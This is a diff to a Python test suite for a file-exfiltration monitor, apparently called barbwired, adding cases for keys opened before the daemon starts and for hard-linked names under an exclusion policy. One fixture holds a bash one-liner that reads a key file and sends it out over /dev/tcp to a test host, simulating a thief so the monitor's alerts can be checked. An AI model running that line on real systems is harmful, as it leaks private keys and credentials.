@@ -29,7 +29,9 @@ from net import HOST_V4
 from tap import require, require_equal
 
 LONG = "--long" in sys.argv
-CROWD_UID, OWNER_UID, CUT_UID = 65001, 65002, 65003
+CROWD_UID, OWNER_UID, CUT_UID, EARLY_UID = 65001, 65002, 65003, 65004
+# Open when barbwired starts.
+EARLY_FILES = 5000
 # Of the table of remembered files, what one user may have of one class.
 CLASS_PART = 16
 # Entries of deleted files are gone within this.
@@ -94,9 +96,10 @@ class Named(Scene):
         os.chown(path, uid, uid)
         return path
 
-    def many(self, uid):
-        """Directories 0, 1, … with a file .env each: more than that user's share of the class. Returns how many."""
-        top, n = self.place(uid), self.share + 200
+    def many(self, uid, n=None):
+        """Directories 0, 1, … with a file .env each: by default more than that user's share of the class. Returns how
+        many."""
+        top, n = self.place(uid), n or self.share + 200
         for i in range(n):
             os.mkdir(f"{top}/{i}")
             with open(f"{top}/{i}/.env", "w", encoding="ascii") as out:
@@ -387,6 +390,72 @@ def reloaded(scene):
                              scene.home, "a file that the policy does not name any more")
 
 
+def excluded(scene):
+    """A file with two names, one of which a new policy excludes: it is sensitive by the other one, and therefore by
+    both, whichever is used first."""
+    policy = "[Class names-test]\nPath=/**/names-test/*\nWindow=1min\nLateWindow=0\n"
+    scene.write_policy(policy)
+    scene.bw.reload()
+    for first in "key", "name":
+        path, content = scene.secret(b"names-test/key", OWNER_UID)
+        names = {"key": path, "name": f"{os.path.dirname(path)}/name"}
+        os.link(path, names["name"])
+        opened(path)
+        scene.write_policy(policy + "ExcludePath=/**/names-test/key\n")
+        require("policy reloaded" in scene.bw.reload(), "the reload")
+        for name in first, *(names.keys() - {first}):
+            scene.steal(f"{first} first, by {name}", names[name], content, OWNER_UID)
+        scene.write_policy(policy)
+        scene.bw.reload()
+    scene.write_policy("")
+    scene.bw.reload()
+
+
+class Early:
+    """Before barbwired starts: a user who has many files of a class open, and a thief of another user who has one."""
+    HELD = 'exec 3<"$1"; echo ready; read; exec 4<>/dev/tcp/$2/443; exec cat <&3 >&4'
+
+    def __init__(self, scene):
+        self.scene = scene
+        user = {"user": EARLY_UID, "group": EARLY_UID, "extra_groups": []}
+        self.top, n = scene.many(EARLY_UID, EARLY_FILES)
+        self.crowd = Crowd(scene.net, f"{self.top}/0/.env", "held", n, self.top, **user)
+        self.key, self.content = scene.key(OWNER_UID)
+        owner = {"user": OWNER_UID, "group": OWNER_UID, "extra_groups": []}
+        self.thief = scene.net.popen(["/bin/bash", "-c", self.HELD, "bash", self.key, HOST_V4], stdin=subprocess.PIPE,
+                                     stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, **owner)
+        require_equal(self.thief.stdout.readline(), "ready\n", "the thief")
+
+    def __enter__(self):
+        self.crowd.__enter__()
+        return self
+
+    def __exit__(self, *exception):
+        self.crowd.__exit__()
+        self.thief.kill()
+        self.thief.wait()
+        shutil.rmtree(self.top)
+
+
+def early(net, home):
+    """What was open before is known, of all users within their shares."""
+    scene = Named(net, home)
+    with Early(scene) as world, scene.bw:
+        scene.learn()
+        known = min(EARLY_FILES, scene.share)
+        require(scene.files() >= known, f"{scene.files()} files are remembered, not {known}")
+        require_equal(scene.losses(), {}, "losses")
+        _, errors = world.thief.communicate("go\n", harness.ALERT_TIMEOUT)
+        require_equal(world.thief.returncode, 0, errors)
+        net.sink.wait_arrived(world.content)
+        scene.bw.wait_alert(lambda a: a["destination"]["address"] == HOST_V4 and touches(a, world.key.encode()),
+                            "a key that was open before barbwired started", 1 * tap.SLOW)
+        scene.steal("that key, renamed", moved(world.key), world.content, OWNER_UID)
+        key, content = scene.key(EARLY_UID)
+        scene.steal("a key of the user who has all these files open", key, content, EARLY_UID)
+        scene.bw.stop()
+
+
 class Btrfs:
     """A file system with subvolumes as distributions make them: @ and @home, with one subvolume within, each mounted
     where it belongs."""
@@ -514,6 +583,7 @@ def main():
             path, content = home.decoy(f"{disk}/home/ana/.ssh/id_decoy".encode())
             other_path, other_content = home.decoy(f"{other}/home/ana/.ssh/id_decoy".encode())
             many_links = Cut(scene)
+            t.case(f"{EARLY_FILES} files were open before barbwired started", early, net, home)
             with scene.bw:
                 scene.learn()
                 t.case("many mounts", containers, scene, (path.decode(), content))
@@ -528,6 +598,7 @@ def main():
                 t.case("the kernel's caches are dropped", cached, scene)
                 t.case("a file system is unmounted", unmounted, scene)
                 t.case("the policy changes", reloaded, scene)
+                t.case("the policy excludes one of two names", excluded, scene)
                 scene.bw.stop()
 
 
